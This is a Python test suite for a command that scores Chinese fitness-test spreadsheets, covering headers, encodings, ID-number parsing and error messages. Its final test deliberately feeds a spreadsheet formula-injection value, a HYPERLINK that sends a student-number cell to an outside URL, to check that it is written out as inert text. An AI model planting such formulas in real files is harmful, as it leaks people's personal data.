"""`physique_score` on real .xlsx and .csv files: Chinese headers, encodings, a bad row with its reason."""

import csv
import io

import numpy as np
import pytest
from django.core.management import CommandError, call_command
from openpyxl import Workbook, load_workbook

from quanmin.demo.accounts import make_id_number
from quanmin.physique import batch, device_headers, errors, scoring, tables

HEADERS = ["学号", "姓名", "性别", "年级", "身高（cm）", "体重（kg）", "肺活量（ml）", "50米跑（秒）", "坐位体前屈（cm）",
           "立定跳远（cm）", "引体向上（次）", "1分钟仰卧起坐（次）", "1000米跑", "800米跑"]
ROWS = [
    ["2024001", "张三", "男", "初二", 165, 52, 3200, 8.1, 9.5, 215, 6, None, "3'55\"", None],
    ["2024002", "李四", "女", "初中二年级", 158, 48, 2600, 9.0, 14, 180, None, 40, None, "3:40"],
    ["2024003", "王五", "男", "初九", 165, 52, 3200, 8.1, 9.5, 215, 6, None, 235, None],
    ["2024004", "赵六", "女", 22, 158, -48, 2600, 9.0, 14, 180, None, 40, None, 220],
    ["2024005", "孙七", "1", "senior-3", 175, 66, 4500, 7.1, 18, 250, 25, None, "3:25", None],
]
KEYS = [None, None, "sex", "grade", "height_cm", "weight_kg", "vital_capacity_ml", "sprint_50m_s", "sit_and_reach_cm",
        "standing_long_jump_cm", "pullups", "situps_1min", "run_1000m_s", "run_800m_s"]


def write_xlsx(path, headers, rows):
    wb = Workbook()
    ws = wb.active
    ws.append(["某某学校体质测试数据导出"])  # a title row above the header is common; blank rows too
    ws.append([])
    ws.append(headers)
    for row in rows:
        ws.append(row)
    wb.save(path)


def read_output(path):
    if str(path).endswith(".csv"):
        with open(path, encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
    else:
        rows = [list(r) for r in load_workbook(path, read_only=True).active.iter_rows(values_only=True)]
    return rows[0], rows[1:]


def expected(row):
    m = {k: v for k, v in zip(KEYS, row, strict=True) if k and k not in ("sex", "grade") and v is not None}
    return scoring.score("student-2014", device_headers.parse_sex(row[2]), grade=device_headers.parse_grade(row[3]), measurements=m)


def run(src, out, standard="student-2014", **kwargs):
    buf = io.StringIO()
    call_command("physique_score", str(src), "--standard", standard, "-o", str(out), stdout=buf, **kwargs)
    return buf.getvalue()


def test_xlsx_with_chinese_headers(tmp_path):
    src, out = tmp_path / "export.xlsx", tmp_path / "scored.xlsx"
    # The title row is read as the header here: put the real header first, as device exports do.
    wb = Workbook()
    ws = wb.active
    ws.append(HEADERS)
    for row in ROWS:
        ws.append(row)
    wb.save(src)
    report = run(src, out)
    assert "5 rows read, 3 scored, 2 not scored" in report
    headers, rows = read_output(out)
    assert headers[: len(HEADERS)] == HEADERS
    col = {h: i for i, h in enumerate(headers)}
    for src_row, out_row in zip(ROWS, rows, strict=True):
        assert out_row[: len(HEADERS)] == [None if v is None else v for v in src_row]
    for i in (0, 1, 4):
        want = expected(ROWS[i])
        assert rows[i][col["total"]] == pytest.approx(want.total) and rows[i][col["rating"]] == want.rating
        for item in want.items:
            assert rows[i][col[f"{item.key}_score"]] == item.score
        assert not rows[i][col["reason"]]
    assert "年级" in rows[2][col["reason"]] and "初九" in rows[2][col["reason"]]
    assert "体重" in rows[3][col["reason"]] and "negative" in rows[3][col["reason"]]
    assert rows[2][col["total"]] is None and rows[3][col["rating"]] in (None, "")
    assert rows[4][col["pullups_bonus"]] > 0  # 25 pull-ups in senior-3: above the top row


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-8", "gb18030"])
def test_csv_encodings(tmp_path, encoding):
    src, out = tmp_path / "export.csv", tmp_path / "scored.csv"
    with open(src, "w", encoding=encoding, newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(HEADERS)
        writer.writerows([["" if v is None else v for v in row] for row in ROWS])
    run(src, out)
    headers, rows = read_output(out)
    col = {h: i for i, h in enumerate(headers)}
    assert rows[0][1] == "张三"
    assert float(rows[0][col["total"]]) == expected(ROWS[0]).total
    assert rows[2][col["reason"]].startswith("年级")


def test_title_rows_above_the_header_are_the_header(tmp_path):
    """The first non-blank row is the header: a title row above it makes the columns unknown, said clearly."""
    src = tmp_path / "export.xlsx"
    write_xlsx(src, HEADERS, ROWS)
    with pytest.raises(CommandError, match="grade"):
        run(src, tmp_path / "out.xlsx")


def test_physique_standard_by_id_number(tmp_path):
    """No sex or age column: both come from the ID number and the test date."""
    src, out = tmp_path / "adults.csv", tmp_path / "scored.xlsx"
    man = make_id_number("371502", "19860315", 3, True)
    woman = make_id_number("371502", "19700101", 4, False)
    rows = [
        ["身份证号", "测试日期", "身高", "体重", "肺活量", "台阶指数", "握力", "俯卧撑", "纵跳", "坐位体前屈", "选择反应时",
         "闭眼单脚站立"],
        [man, "2026-05-01", 172, 68, 3900, 56, 45, 25, 38, 8, 0.5, 20],
        [woman, "2026/05/01", 160, 55, 2600, 55, 27, "", "", 10, 0.55, 15],
        [woman[:-1] + ("0" if woman[-1] != "0" else "1"), "2026-05-01", 160, 55, 2600, 55, 27, "", "", 10, 0.55, 15],
    ]
    with open(src, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    run(src, out, standard="physique-2003")
    headers, got = read_output(out)
    col = {h: i for i, h in enumerate(headers)}
    m1 = {"height_cm": 172, "weight_kg": 68, "vital_capacity_ml": 3900, "step_index": 56, "grip_kg": 45, "pushups": 25,
          "vertical_jump_cm": 38, "sit_and_reach_cm": 8, "reaction_time_s": 0.5, "one_leg_stand_eyes_closed_s": 20}
    assert got[0][col["total"]] == scoring.score("physique-2003", "male", age=40, measurements=m1).total
    m2 = {"height_cm": 160, "weight_kg": 55, "vital_capacity_ml": 2600, "step_index": 55, "grip_kg": 27,
          "sit_and_reach_cm": 10, "reaction_time_s": 0.55, "one_leg_stand_eyes_closed_s": 15}
    assert got[1][col["total"]] == scoring.score("physique-2003", "female", age=56, measurements=m2).total
    assert "身份证号" in got[2][col["reason"]]


def test_canonical_headers_and_withheld_rating(tmp_path):
    src, out = tmp_path / "a.csv", tmp_path / "b.csv"
    src.write_text("sex,age,height_cm,weight_kg,grip_kg\nfemale,65,155,58,22\nmale,70,170,70,40\n", encoding="utf-8")
    run(src, out, standard="physique-2003")
    headers, rows = read_output(out)
    col = {h: i for i, h in enumerate(headers)}
    assert rows[0][col["rating"]] == "" and rows[0][col["reason"]].startswith("no rating")
    assert "age" in rows[1][col["reason"]]


@pytest.mark.parametrize(("name", "content", "message"), [
    ("broken.xlsx", b"PK\x03\x04 this is not a workbook", "Excel"),
    ("binary.csv", b"\x00\x01\x02\x03" * 50, "not a text"),
    ("latin.csv", b"sex,grade\nmale,junior-1\n" + b"\x81\x30\x81", "UTF-8"),
    ("data.json", b"{}", "Unsupported"),
    ("empty.csv", b"\n\n", "no header"),
    ("nogrades.csv", "性别,身高\n男,170\n".encode(), "grade"),
])
def test_unreadable_files_give_a_clear_error(tmp_path, name, content, message):
    src = tmp_path / name
    src.write_bytes(content)
    with pytest.raises(CommandError, match=message):
        run(src, tmp_path / "out.xlsx")


def test_missing_file_unknown_standard_bad_output(tmp_path):
    with pytest.raises(CommandError, match="Cannot read"):
        run(tmp_path / "nope.csv", tmp_path / "out.xlsx")
    src = tmp_path / "a.csv"
    src.write_text("sex,grade\nmale,junior-1\n", encoding="utf-8")
    with pytest.raises(CommandError, match="Unknown standard"):
        run(src, tmp_path / "out.xlsx", standard="student-1999")
    with pytest.raises(CommandError, match=r"\.xlsx or \.csv"):
        run(src, tmp_path / "out.pdf")


def test_vectorised_batch_equals_one_at_a_time():
    """The batch reader's answers equal score() row by row, on random rows (including bad cells)."""
    rng = np.random.default_rng(7)
    std = tables.load_standard("student-2014")
    headers = ["sex", "grade", "height_cm", "weight_kg", "vital_capacity_ml", "sprint_50m_s", "sit_and_reach_cm",
               "rope_skipping_1min", "situps_1min", "shuttle_50x8_s", "standing_long_jump_cm", "pullups",
               "run_1000m_s", "run_800m_s"]
    ranges = [(105, 195), (15, 100), (300, 6000), (6, 15), (-12, 30), (0, 220), (0, 72), (80, 170), (100, 300),
              (0, 32), (150, 450), (150, 380)]
    rows = []
    for _ in range(2000):
        row = [rng.choice(["男", "女", "M", "x"]), rng.choice([*std.grades, "高四"])]
        for low, high in ranges:
            v = round(float(rng.uniform(low, high)), 1)
            row.append(None if rng.random() < 0.1 else (str(v) if rng.random() < 0.1 else v))
        rows.append(row)
    sheet = batch.Sheet(headers, rows, list(range(2, len(rows) + 2)))
    scored = batch.score_sheet(sheet, std)
    for i, row in enumerate(rows):
        try:
            want = scoring.score(std, device_headers.parse_sex(row[0]), grade=device_headers.parse_grade(row[1]),
                                 measurements={h: v for h, v in zip(headers[2:], row[2:], strict=True)})
        except errors.ScoringError:
            assert scored.reasons[i] and np.isnan(scored.totals[i])
            continue
        assert scored.totals[i] == want.total and scored.ratings[i] == want.rating and not scored.reasons[i]


def test_odd_cells_get_a_reason():
    sheet = batch.Sheet(["sex", "grade", "pullups", "run_1000m_s", "sit_and_reach_cm"],
                        [["男", "初一", "nan", "3'30\"", "-4"], ["男", "初一", True, "", ""], ["男", "初一", "inf", "", ""],
                         ["男", "初一", "  7 ", "3:30", "  "]], [2, 3, 4, 5])
    scored = batch.score_sheet(sheet, "student-2014")
    assert "pullups" in scored.reasons[0] and "pullups" in scored.reasons[1] and "pullups" in scored.reasons[2]
    assert not scored.reasons[3]
    assert scored.item_scores["run_1000m_s"][3] == scoring.score(
        "student-2014", "male", grade="junior-1", measurements={"run_1000m_s": 210}).items[-1].score


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_scored_output_writes_formula_like_names_as_text(tmp_path, suffix):
    """Issue 15, item 4: a device export's name cell like =HYPERLINK(...) comes out as text."""
    src, out = tmp_path / "export.xlsx", tmp_path / f"scored{suffix}"
    hostile = '=HYPERLINK("http://e.cn/?"&A2,"详")'
    wb = Workbook()
    ws = wb.active
    ws.append(HEADERS)
    ws.append([ROWS[0][0], hostile, *ROWS[0][2:]])
    ws.cell(2, 2).data_type = "s"  # typed as text in the device's file
    wb.save(src)
    run(src, out)
    if suffix == ".csv":
        assert read_output(out)[1][0][1] == "'" + hostile
    else:
        cell = load_workbook(out).active.cell(2, 2)
        assert cell.value == hostile and cell.data_type == "s" and cell.quotePrefix
